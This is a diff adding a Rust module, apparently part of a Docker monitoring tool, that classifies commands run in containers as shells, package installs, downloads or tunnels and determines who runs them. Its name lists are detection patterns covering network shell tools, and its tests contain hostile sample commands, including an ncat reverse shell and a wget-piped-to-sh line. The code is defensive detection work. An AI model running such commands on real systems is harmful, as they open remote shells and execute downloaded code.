@@ -1,0 +1,280 @@
+//! Commands that are run in containers: which of them open a shell, install, fetch or tunnel, and as whom they run.
+//!
+//! The command is judged by the names of the programs in it. Who brings a shell under another name is not seen here;
+//! that somebody ran something is.
+
+use crate::docker::inspect::{Container, Exec};
+
+use super::Event;
+use super::risk::{is_root, probe};
+
+const SHELLS: [&str; 14] = [
+    "ash",
+    "bash",
+    "busybox",
+    "cmd.exe",
+    "csh",
+    "dash",
+    "elvish",
+    "fish",
+    "ksh",
+    "mksh",
+    "powershell",
+    "pwsh",
+    "sh",
+    "zsh",
+];
+
+/// What starts another program, or can.
+const WRAPPERS: [&str; 38] = [
+    "awk",
+    "chroot",
+    "chpst",
+    "doas",
+    "dumb-init",
+    "env",
+    "exec",
+    "expect",
+    "find",
+    "gawk",
+    "gosu",
+    "ionice",
+    "lua",
+    "nice",
+    "node",
+    "nohup",
+    "nsenter",
+    "perl",
+    "php",
+    "python",
+    "python2",
+    "python3",
+    "ruby",
+    "runuser",
+    "s6-setuidgid",
+    "script",
+    "setarch",
+    "setpriv",
+    "setsid",
+    "stdbuf",
+    "su",
+    "su-exec",
+    "sudo",
+    "taskset",
+    "timeout",
+    "tini",
+    "unshare",
+    "xargs",
+];
+
+const PACKAGE_MANAGERS: [&str; 21] = [
+    "apk", "apt", "apt-get", "aptitude", "brew", "cargo", "conda", "dnf", "dpkg", "emerge", "gem", "microdnf", "npm",
+    "opkg", "pacman", "pip", "pip3", "pnpm", "rpm", "yum", "zypper",
+];
+
+const DOWNLOADERS: [&str; 14] =
+    ["aria2c", "axel", "curl", "ftp", "git", "lftp", "lynx", "rsync", "scp", "sftp", "svn", "tftp", "wget", "wget2"];
+
+const TUNNELS: [&str; 9] = ["chisel", "frpc", "nc", "ncat", "netcat", "ngrok", "ptcp", "socat", "telnet"];
+
+/// What a command does, by the names in it.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct Command {
+    /// The shell it opens.
+    pub shell: Option<&'static str>,
+    /// The package manager it runs.
+    pub package_manager: Option<&'static str>,
+    /// What it fetches or sends files with.
+    pub download: Option<&'static str>,
+    /// What it opens connections with.
+    pub tunnel: Option<&'static str>,
+}
+
+/// The words of a command line: paths, options and names, without quotes and what joins commands.
+pub(super) fn words(command: &str) -> impl Iterator<Item = &str> {
+    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | '+' | '@' | ':');
+    command.split(move |c: char| !is_part(c)).filter(|word| !word.is_empty())
+}
+
+fn known(names: &'static [&'static str], word: &str) -> Option<&'static str> {
+    let name = word.rsplit('/').next().unwrap_or_default();
+    names.iter().find(|known| known.eq_ignore_ascii_case(name)).copied()
+}
+
+pub(super) fn is_tunnel(word: &str) -> bool {
+    known(&TUNNELS, word).is_some()
+}
+
+/// Judges a command line as events have it.
+#[must_use]
+pub fn of_command(command: &str) -> Command {
+    let first_of = |names: &'static [&'static str]| words(command).find_map(|word| known(names, word));
+    let program = words(command).next().unwrap_or_default();
+    // `python3.11` is Python.
+    let is_wrapper = known(&WRAPPERS, program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')).is_some()
+        || known(&WRAPPERS, program).is_some();
+    let shell = match known(&SHELLS, program) {
+        // Of busybox's many programs only some are a shell.
+        Some("busybox") => words(command).nth(1).and_then(|word| known(&SHELLS, word)),
+        None if is_wrapper => words(command).skip(1).find_map(|word| known(&SHELLS, word)),
+        shell => shell,
+    };
+    Command {
+        shell,
+        package_manager: first_of(&PACKAGE_MANAGERS),
+        download: first_of(&DOWNLOADERS),
+        tunnel: first_of(&TUNNELS),
+    }
+}
+
+/// What is known of a command that is run in a container.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Facts {
+    /// What it does, by the names in it.
+    pub command: Command,
+    /// Whether somebody types into it.
+    pub interactive: Option<bool>,
+    /// As whom it runs.
+    pub user: Option<String>,
+    /// Whether it may do nearly everything.
+    pub privileged: Option<bool>,
+    /// Whether it is the container's own health check, run by the engine.
+    pub probe: Option<bool>,
+}
+
+impl Facts {
+    /// Whether it runs as root; none where that is not known.
+    #[must_use]
+    pub fn is_root(&self) -> Option<bool> {
+        self.user.as_deref().map(is_root)
+    }
+}
+
+/// What a container runs by itself.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Own {
+    /// As whom; empty is root.
+    pub user: String,
+    /// What probes its health.
+    pub probe: Option<String>,
+}
+
+impl Own {
+    /// Of this container.
+    #[must_use]
+    pub fn of(container: &Container) -> Self {
+        Self { user: container.config.user.clone(), probe: probe(container) }
+    }
+}
+
+/// The command line of an event that tells of one.
+#[must_use]
+pub fn command<'e>(event: &'e Event<'_>) -> Option<&'e str> {
+    let action = event.action();
+    ["exec_create: ", "exec_start: ", "exec_detach: "].iter().find_map(|verb| action.strip_prefix(verb))
+}
+
+/// What is known of an event's command from its event alone.
+#[must_use]
+pub fn of_event(event: &Event<'_>) -> Option<Facts> {
+    command(event).map(|command| Facts { command: of_command(command), ..Facts::default() })
+}
+
+/// What is known of it with what the engine says. A probe has no terminal and no input, runs as the container's own
+/// user and is what the container was made with, word for word.
+#[must_use]
+pub fn with_answers(command: &str, exec: &Exec, own: Option<&Own>) -> Facts {
+    let process = &exec.process_config;
+    let user = if process.user.is_empty() { own.map(|own| own.user.clone()) } else { Some(process.user.clone()) };
+    let interactive = process.tty || exec.open_stdin;
+    let is_probe = |own: &Own| {
+        !interactive
+            && !process.privileged
+            && (process.user.is_empty() || process.user == own.user)
+            && own.probe.as_ref().is_some_and(|probe| probe.trim_end() == command.trim_end())
+    };
+    Facts {
+        command: of_command(command),
+        interactive: Some(interactive),
+        user: user.map(|user| if user.is_empty() { "root".to_owned() } else { user }),
+        privileged: Some(process.privileged),
+        probe: own.map(is_probe),
+    }
+}
+
+/// Whether an exec is the one that an event tells of.
+#[must_use]
+pub fn is_of(exec: &Exec, command: &str) -> bool {
+    let process = &exec.process_config;
+    let said = format!("{} {}", process.entrypoint, process.arguments.join(" "));
+    said.trim_end() == command.trim_end()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn programs_are_known_by_their_names_wherever_they_lie() {
+        for (command, expected) in [
+            ("bash ", "bash - - -"),
+            ("/bin/sh -c true", "sh - - -"),
+            ("/usr/bin/bash -i", "bash - - -"),
+            ("busybox sh", "sh - - -"),
+            ("busybox wget http://x", "- - wget -"),
+            ("env A=1 /bin/zsh", "zsh - - -"),
+            ("sudo -u root bash", "bash - - -"),
+            ("python3.11 -c 'import pty; pty.spawn(\"/bin/bash\")'", "bash - - -"),
+            ("find / -exec sh ;", "sh - - -"),
+            ("cat /etc/bash", "- - - -"),
+            ("ls -l /bin/sh", "- - - -"),
+            ("sleep 60", "- - - -"),
+            ("node server.js", "- - - -"),
+            ("apt-get install -y nmap", "- apt-get - -"),
+            ("sh -c 'apk add curl'", "sh apk curl -"),
+            ("sh -c \"true;wget -qO- http://x|sh\"", "sh - wget -"),
+            ("/usr/bin/curl -s http://x", "- - curl -"),
+            ("cat /var/log/apt/history.log", "- - - -"),
+            ("ncat -e /bin/sh 10.0.0.1 4444", "- - - ncat"),
+            ("", "- - - -"),
+        ] {
+            let Command { shell, package_manager, download, tunnel } = of_command(command);
+            let seen: Vec<&str> =
+                [shell, package_manager, download, tunnel].iter().map(|name| name.unwrap_or("-")).collect();
+            assert_eq!(seen.join(" "), expected, "{command}");
+        }
+    }
+
+    #[test]
+    fn a_probe_is_the_containers_own_and_nobody_elses() {
+        let container: Container = serde_json::from_str(
+            r#"{"Config":{"User":"app","Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost/"]}}}"#,
+        )
+        .unwrap();
+        let command = "/bin/sh -c curl -f http://localhost/";
+        let probe = |exec: &str, command: &str| {
+            let exec: Exec = serde_json::from_str(exec).unwrap();
+            with_answers(command, &exec, Some(&Own::of(&container))).probe
+        };
+        assert_eq!(probe(r#"{"ProcessConfig":{"user":"app"}}"#, command), Some(true));
+        assert_eq!(probe("{}", command), Some(true));
+        assert_eq!(probe(r#"{"ProcessConfig":{"user":"root"}}"#, command), Some(false));
+        assert_eq!(probe(r#"{"ProcessConfig":{"tty":true}}"#, command), Some(false));
+        assert_eq!(probe(r#"{"OpenStdin":true}"#, command), Some(false));
+        assert_eq!(probe("{}", "/bin/sh -c curl -f http://localhost/ ; sh"), Some(false));
+        assert_eq!(with_answers(command, &Exec::default(), None).probe, None);
+    }
+
+    #[test]
+    fn who_runs_it_is_who_was_named_else_the_containers_user_else_root() {
+        let own = |user: &str| Own { user: user.to_owned(), probe: None };
+        let exec = |user: &str| serde_json::from_str(&format!(r#"{{"ProcessConfig":{{"user":"{user}"}}}}"#)).unwrap();
+        for (of_exec, of_container, user, root) in
+            [("", "", "root", true), ("", "app", "app", false), ("0", "app", "0", true), ("app", "", "app", false)]
+        {
+            let facts = with_answers("id", &exec(of_exec), Some(&own(of_container)));
+            assert_eq!((facts.user.as_deref(), facts.is_root()), (Some(user), Some(root)));
+        }
+        assert_eq!(with_answers("id", &exec(""), None).is_root(), None);
+    }
+}
